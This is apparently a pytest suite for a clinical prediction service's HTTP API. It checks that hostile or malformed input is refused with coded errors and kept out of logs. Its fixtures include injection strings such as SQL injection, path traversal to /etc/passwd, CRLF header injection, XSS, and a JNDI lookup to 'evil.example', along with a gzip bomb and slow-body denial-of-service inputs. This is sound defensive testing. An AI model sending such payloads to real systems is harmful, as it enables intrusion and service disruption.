"""Faults A01-A05: what callers send to the service by mistake or by malice."""

import asyncio
import gzip
import json
import re
import threading
import time

import pytest
from service import SMALL, Client, as_patients, refused, response_predictor

from theracast.features.datasets import load_cohort
from theracast.predict.serve.limits import Limits

JSON = {"content-type": "application/json"}
BODY = {"patients": [{"patient_id": "p1", "clinical": {"age": 61, "sex": "F"}}]}


@pytest.fixture(scope="module")
def predictor():
    return response_predictor()


@pytest.fixture(scope="module")
def client(predictor):
    return Client(predictor)


@pytest.fixture(scope="module")
def small(predictor):
    return Client(predictor, options={"limits": SMALL})


def send(client, text, path="/predict", **headers):
    body = text if isinstance(text, bytes) else text.encode()
    return client.ask("POST", path, content=body, headers={**JSON, **headers})


# ---------------------------------------------------------------- A01, A02: ids and names

HOSTILE_IDS = [
    "'; DROP TABLE patients;--",
    "1 OR 1=1",
    '" UNION SELECT * FROM patients --',
    "../../etc/passwd",
    "%2e%2e%2f",
    "p1\r\nSet-Cookie: x=1",
    "p1\x1b[31m",
    "p1\x00",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "é",
    "p 1",
    "",
    "p" * 65,
    "p1\n",
    None,
    7,
    True,
    ["p1"],
    {"$ne": ""},
]


@pytest.mark.parametrize("patient_id", HOSTILE_IDS, ids=range(len(HOSTILE_IDS)))
def test_A01_A02_an_id_is_an_id(client, patient_id):
    good = {"patient_id": "p1", "clinical": {"age": 61}}
    before = len(client.log.getvalue())
    answer = client.post("/predict", {"patients": [good, {"patient_id": patient_id, "clinical": {"age": 61}}]})
    error = refused(answer, 422, "THX-A01")
    assert error["where"] == "patient 2"
    said = client.log.getvalue()[before:] + answer.text + str(answer.headers)
    if isinstance(patient_id, str) and len(patient_id) > 4:
        assert patient_id not in said
    assert said.count("\n") == 1
    assert "\x1b" not in said


@pytest.mark.parametrize("patient_id", ["0", "007", "a.b_c-D9", "p" * 64])
def test_A01_an_id_of_the_house_is_taken_as_text(client, patient_id):
    told = client.post("/predict", {"patients": [{"patient_id": patient_id, "clinical": {"age": 61}}]}).json()
    assert told["predictions"][0]["patient_id"] == patient_id


@pytest.mark.parametrize("path", ["/%0d%0aX: 1", "/..%2f..%2fetc/passwd", "/predict/../health%00", "/{{7*7}}"])
def test_A02_a_path_stands_in_no_log_and_no_metric(client, path):
    before = len(client.log.getvalue())
    answer = client.ask("GET", path)
    assert answer.status_code == 404
    (line,) = client.log.getvalue()[before:].splitlines()
    assert json.loads(line)["route"] == "other"
    metrics = client.ask("GET", "/metrics").text
    assert set(re.findall(r'route="([^"]+)"', metrics)) <= {"other", "/predict", "/metrics", "/report", "/ready", "/"}


# ---------------------------------------------------------------- A03: too much


def test_A03_a_body_too_large_is_refused_by_its_declared_length_unread(small):
    sent = []

    async def never():
        sent.append(1)
        yield b"{"

    error = refused(
        small.ask("POST", "/predict", content=never(), headers={**JSON, "content-length": "1000000000"}),
        413,
        "THX-A03",
    )
    assert "20000 bytes" in error["wanted"]
    assert len(sent) <= 1


def test_A03_a_body_of_unknown_length_is_read_up_to_the_bound(small):
    async def endless():
        while True:
            yield b" " * 1000

    refused(small.ask("POST", "/predict", content=endless(), headers=JSON), 413, "THX-A03")


@pytest.mark.parametrize("length", ["-1", "1e9", "x", "9" * 400])
def test_A03_a_length_that_is_none_is_refused(small, length):
    answer = small.ask("POST", "/predict", content=b"{}", headers={**JSON, "content-length": length})
    refused(answer, 413, "THX-A03")


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "gzip, gzip", "x"])
def test_A03_a_compressed_bomb_is_not_unpacked(small, encoding):
    bomb = gzip.compress(b"0" * 10_000_000)
    assert len(bomb) < 20_000
    refused(send(small, bomb, **{"content-encoding": encoding}), 415, "THX-A03")


@pytest.mark.parametrize("opened", ["[", '{"a":', '{"patients":['])
def test_A03_depth_is_looked_at_before_parsing(client, opened):
    for depth in (9, 1_000, 10_000, 1_000_000):
        refused(send(client, opened * depth), 400, "THX-A03")


def test_A03_brackets_in_texts_are_no_depth_and_quotes_cost_no_time(client):
    told = send(client, json.dumps({"patients": [{"patient_id": "p1", "clinical": {"sex": "[{" * 300 + '\\"'}}]}))
    assert told.status_code == 200
    started = time.perf_counter()
    refused(send(client, '"' + '\\"' * 2_000_000), 400, "THX-A04")
    refused(send(client, '"\\'), 400, "THX-A04")
    assert time.perf_counter() - started < 5


def test_A03_patients_columns_and_cells_are_counted(small):
    many = [{"patient_id": f"p{i}", "clinical": {"age": 61}} for i in range(5)]
    assert "patients" in refused(small.post("/predict", {"patients": many}), 413, "THX-A03")["what"]
    wide = [{"patient_id": "p", "expression": {f"G{i}": 1.0 for i in range(31)}}]
    assert "columns" in refused(small.post("/predict", {"patients": wide}), 413, "THX-A03")["what"]
    # few columns each, many together: a table of all would be a bomb
    apart = [{"patient_id": f"p{i}", "expression": {f"G{i}_{j}": 1.0 for j in range(7)}} for i in range(4)]
    assert "cells" in refused(small.post("/predict", {"patients": apart}), 413, "THX-A03")["what"]
    long = {"patients": [{"patient_id": "p", "clinical": {"sex": "x" * 51}}]}
    refused(small.post("/predict", long), 400, "THX-A04")
    csv = (",".join(f"expression:G{i}" for i in range(40)) + "\n" + ",".join("1" * 40)).encode()
    refused(small.ask("POST", "/report", content=csv, headers={"content-type": "text/csv"}), 413, "THX-A03")


def test_A03_a_million_columns(client):
    columns = ",".join(f'"G{i}":1' for i in range(1_000_000))
    body = f'{{"patients":[{{"patient_id":"p","expression":{{{columns}}}}}]}}'
    refused(send(client, body), 413, "THX-A03")


def test_A03_a_body_that_dribbles_is_given_up(small):
    async def slow():
        for _ in range(50):
            yield b" "
            await asyncio.sleep(0.05)

    started = time.monotonic()
    answer = small.ask("POST", "/predict", content=slow(), headers=JSON)
    refused(answer, 408, "THX-A03")
    assert answer.headers["connection"] == "close"
    assert time.monotonic() - started < 2


def test_A03_an_answer_that_takes_too_long_is_given_up(predictor, monkeypatch):
    client = Client(predictor, options={"limits": Limits(work_seconds=0.2, concurrency=2, workers=1)})
    score, gate = predictor.score, threading.Event()

    def hanging(*args, **kwargs):
        gate.wait(20)
        return score(*args, **kwargs)

    monkeypatch.setattr(predictor, "score", hanging)
    answers = client.ask_all([("POST", "/predict", {"json": BODY})] * 3)
    gate.set()
    assert {a.status_code for a in answers} == {503}
    assert {a.json()["error"]["code"] for a in answers} == {"THX-A03", "THX-A05"}
    assert all(a.headers["retry-after"] for a in answers)


# ---------------------------------------------------------------- A04: no JSON, or not ours

NOT_OURS = {
    b"": "THX-A04",
    b"{": "THX-A04",
    b"\xff\xfe": "THX-A04",
    b"\xef\xbb\xbf{}": "THX-A04",
    b"null": "THX-A04",
    b"[]": "THX-A04",
    b"{}": "THX-A04",
    b'{"patients": {}}': "THX-A04",
    b'{"patients": []}': "THX-A04",
    b'{"patients": [7]}': "THX-A04",
    b'{"patients": [], "patients": []}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "patient_id": "q"}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": 1, "age": 2}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": NaN}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": Infinity}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": -Infinity}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": 1e999}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": 9007199254740993}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": %s}}]}' % (b"9" * 5000): "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": 1.%s}}]}' % (b"1" * 5000): "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": [61]}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"age": {"$gt": 1}}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"sex": "\\ud800"}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"sex": "\\u0000"}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"\\u001b[2J": 1}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": {"": 1}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "clinical": 61}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p", "variants": {"gene": "BRAF"}}]}': "THX-A04",
    b'{"patients": [{"patient_id": "p"}], "strict": "yes"}': "THX-A04",
    b'{"patients": [{"patient_id": "p"}], "units": []}': "THX-A04",
    b'{"patients": [{"patient_id": "p"}], "more": 1}': "THX-A04",
}


@pytest.mark.parametrize("body", NOT_OURS, ids=range(len(NOT_OURS)))
def test_A04_what_is_no_request_is_told_apart(client, body):
    refused(send(client, body), 400, NOT_OURS[body])


@pytest.mark.parametrize("kind", ["text/plain", "application/xml", "", "application/json-seq", "multipart/form-data"])
def test_A04_another_content_type_is_told(client, kind):
    refused(client.ask("POST", "/predict", content=b"{}", headers={"content-type": kind}), 415, "THX-A04")


def test_A04_a_table_of_another_name_is_told_and_not_dropped(client):
    error = refused(client.post("/predict", {"patients": [{"patient_id": "p", "clinicl": {"age": 1}}]}), 422, "THX-A04")
    assert "clinical" in error["wanted"]
    assert "clinicl" not in json.dumps(error)


# ---------------------------------------------------------------- A05: many at a time


def crowd(wide, n):
    rows = [wide.iloc[[i % len(wide)]].set_axis([f"p{i}"]) for i in range(n)]
    return [("POST", "/predict", {"json": {"patients": as_patients(r)}}) for r in rows]


@pytest.mark.parametrize("n", [24, pytest.param(1_000, marks=pytest.mark.nightly)])
def test_A05_requests_at_a_time_get_the_serial_answers(predictor, n):
    wide = load_cohort("mgh2022_mel").wide()
    truth = predictor.score(wide).table
    client = Client(predictor, options={"limits": Limits(concurrency=n, work_seconds=600)})
    for i, answer in enumerate(client.ask_all(crowd(wide, n))):
        (line,) = answer.json()["predictions"]
        mine = truth.iloc[i % len(wide)]
        assert line["patient_id"] == f"p{i}"
        assert line["provenance"] == mine.provenance
        assert (line["probability"], line["lower"], line["upper"]) == (mine.probability, mine.lower, mine.upper)


def test_A05_too_many_are_sent_away_with_when_to_come_back(predictor):
    client = Client(predictor, options={"limits": SMALL})
    answers = client.ask_all([("POST", "/predict", {"json": BODY})] * 30)
    assert {a.status_code for a in answers} == {200, 503}
    # those that had a place and did not outlast the time for work, which is short here
    for answer in answers:
        if answer.status_code == 503:
            refused(answer, 503, "THX-A05")
            assert answer.headers["retry-after"] == "1"
    assert client.post("/predict", BODY).status_code == 200


def test_A05_bodies_together_are_bounded(predictor):
    client = Client(predictor, options={"limits": Limits(bytes_in_flight=50_000)})

    async def slow():
        for _ in range(4):
            yield b" " * 4_000
            await asyncio.sleep(0.05)

    answers = client.ask_all([("POST", "/predict", {"content": slow(), "headers": JSON}) for _ in range(10)])
    assert {a.status_code for a in answers} == {400, 503}
    assert client.post("/predict", BODY).status_code == 200, "what was held is given back"
